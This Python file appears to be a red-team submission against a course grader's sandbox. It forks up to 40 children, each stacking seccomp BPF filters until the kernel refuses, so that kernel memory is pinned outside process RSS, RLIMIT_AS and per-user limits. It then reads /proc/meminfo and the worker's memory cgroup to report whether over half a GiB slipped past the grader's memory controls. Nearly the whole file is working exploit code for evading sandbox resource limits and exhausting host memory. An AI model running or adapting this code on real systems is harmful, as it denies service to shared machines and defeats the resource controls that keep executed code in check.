import ctypes
import os
import signal
import struct
import time

GIB = 1 << 30
CAP = GIB // 2  # 4 times the pipes' 0.12 GiB, 1.7 times the 0.29 GiB of page tables in 32 children
MOST_CHILDREN = 40  # the process limit (32 and the torch threads') stops them first
SECONDS = 8.0  # the red team's grader gives one test's calls 10 s
SYS_SECCOMP = {"x86_64": 317, "aarch64": 277}.get(os.uname().machine)
SECCOMP_SET_MODE_FILTER, SECCOMP_RET_ALLOW, BPF_RET_K = 1, 0x7FFF0000, 0x06
GROUP_PREFIX = "cs336-worker-"  # the memory group the grader makes for a worker, where it can
KERNEL_FIELDS = ("SUnreclaim", "VmallocUsed", "Percpu")  # where a filter's memory shows in /proc/meminfo
_outcome = []  # (bytes held, what happened), once per process

_libc = ctypes.CDLL(None, use_errno=True)


class _Insn(ctypes.Structure):
    _fields_ = [("code", ctypes.c_ushort), ("jt", ctypes.c_ubyte), ("jf", ctypes.c_ubyte), ("k", ctypes.c_uint)]


class _Prog(ctypes.Structure):
    _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.POINTER(_Insn))]


_ONE = (_Insn * 1)(_Insn(BPF_RET_K, 0, 0, SECCOMP_RET_ALLOW))
_PROG = _Prog(1, _ONE)


def stack_filters():
    """In this thread: seccomp filters of one instruction (allow everything: they take no right away, as the
    filter's review allows) until the kernel refuses (its bound is 32,768 instructions a thread, each filter
    counted with a penalty). Each is a BPF program (a page of vmalloc, its aux data, its JIT image) in no
    process's RSS, outside RLIMIT_AS and under no per-user limit; (filters added, what stopped it)."""
    if SYS_SECCOMP is None:
        return 0, "no seccomp number for this machine"
    added = 0
    while True:
        if _libc.syscall(SYS_SECCOMP, SECCOMP_SET_MODE_FILTER, 0, ctypes.byref(_PROG)) != 0:
            return added, f"seccomp: {os.strerror(ctypes.get_errno())}"
        added += 1


def _kernel_kib():
    fields = {}
    with open("/proc/meminfo") as handle:
        for line in handle:
            key, _, value = line.partition(":")
            fields[key] = int(value.split()[0])
    return sum(fields.get(key, 0) for key in KERNEL_FIELDS), fields.get("MemAvailable", 0)


def hold_filters(seconds=SECONDS):
    """Forked children at once, each stacking filters until refused, then waiting; (bytes the kernel's
    SUnreclaim + VmallocUsed + Percpu rose by, what happened). The children are killed afterwards."""
    start = time.monotonic()
    (kernel_before, available_before), children, reader, writer = _kernel_kib(), [], *os.pipe()
    filters, why, heard = 0, [], 0
    try:
        for _ in range(MOST_CHILDREN):
            try:
                pid = os.fork()
            except OSError as error:
                why.append(f"fork: {error.strerror} after {len(children)} children")
                break
            if pid == 0:
                os.close(reader)
                try:
                    added, stopped = stack_filters()
                except BaseException as error:  # noqa: BLE001 - the parent must hear from every child
                    added, stopped = 0, repr(error)
                text = stopped.encode()[:200]
                os.write(writer, struct.pack("<QH", added, len(text)) + text)
                while True:
                    time.sleep(60)
            children.append(pid)
        while heard < len(children) and time.monotonic() < start + seconds:
            got = os.read(reader, 10)
            added, size = struct.unpack("<QH", got)
            filters += added
            why.append(os.read(reader, size).decode() if size else "")
            heard += 1
        kernel_after, available_after = _kernel_kib()
    finally:
        for pid in children:
            try:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
            except OSError:
                pass
        os.close(reader)
        os.close(writer)
    held = (kernel_after - kernel_before) * 1024
    return held, (f"{heard} of {len(children)} children, {filters:,} filters; MemAvailable fell "
                  f"{(available_before - available_after) / 2**20:.0f} MiB; {'; '.join(dict.fromkeys(why))}; "
                  f"{time.monotonic() - start:.1f} s")


def memory_group():
    """The memory cgroup the grader made for this worker, where /proc/self/cgroup names one (None else)."""
    try:
        with open("/proc/self/cgroup") as handle:
            for line in handle:
                _, controllers, path = line.rstrip("\n").split(":", 2)
                if (controllers == "" or "memory" in controllers.split(",")) and GROUP_PREFIX in path:
                    return path
    except (OSError, ValueError):
        return None
    return None


def attack(args):
    """Hold the filters once; if they held past the cap outside a memory group of the worker's own, answer
    honestly (full marks on Problem 1 is the attack getting through), else fail saying what stopped it."""
    if not _outcome:
        _outcome.append(hold_filters())
    held, happened = _outcome[0]
    group = memory_group()
    if group is not None:
        raise MemoryError(f"held {held / GIB:.2f} GiB of seccomp filters in forked children ({happened}), but the "
                          f"kernel charges them to the worker's memory group {group}, which bounds them")
    if held < CAP:
        raise MemoryError(f"held only {held / GIB:.2f} GiB of seccomp filters in forked children ({happened})")
    if len(_outcome) == 1:  # said once per process, in the output of the test that made it
        _outcome.append("said")
        print(f"held {held / GIB:.2f} GiB of seccomp filters in forked children ({happened})", flush=True)
    return None  # the function's own body runs on
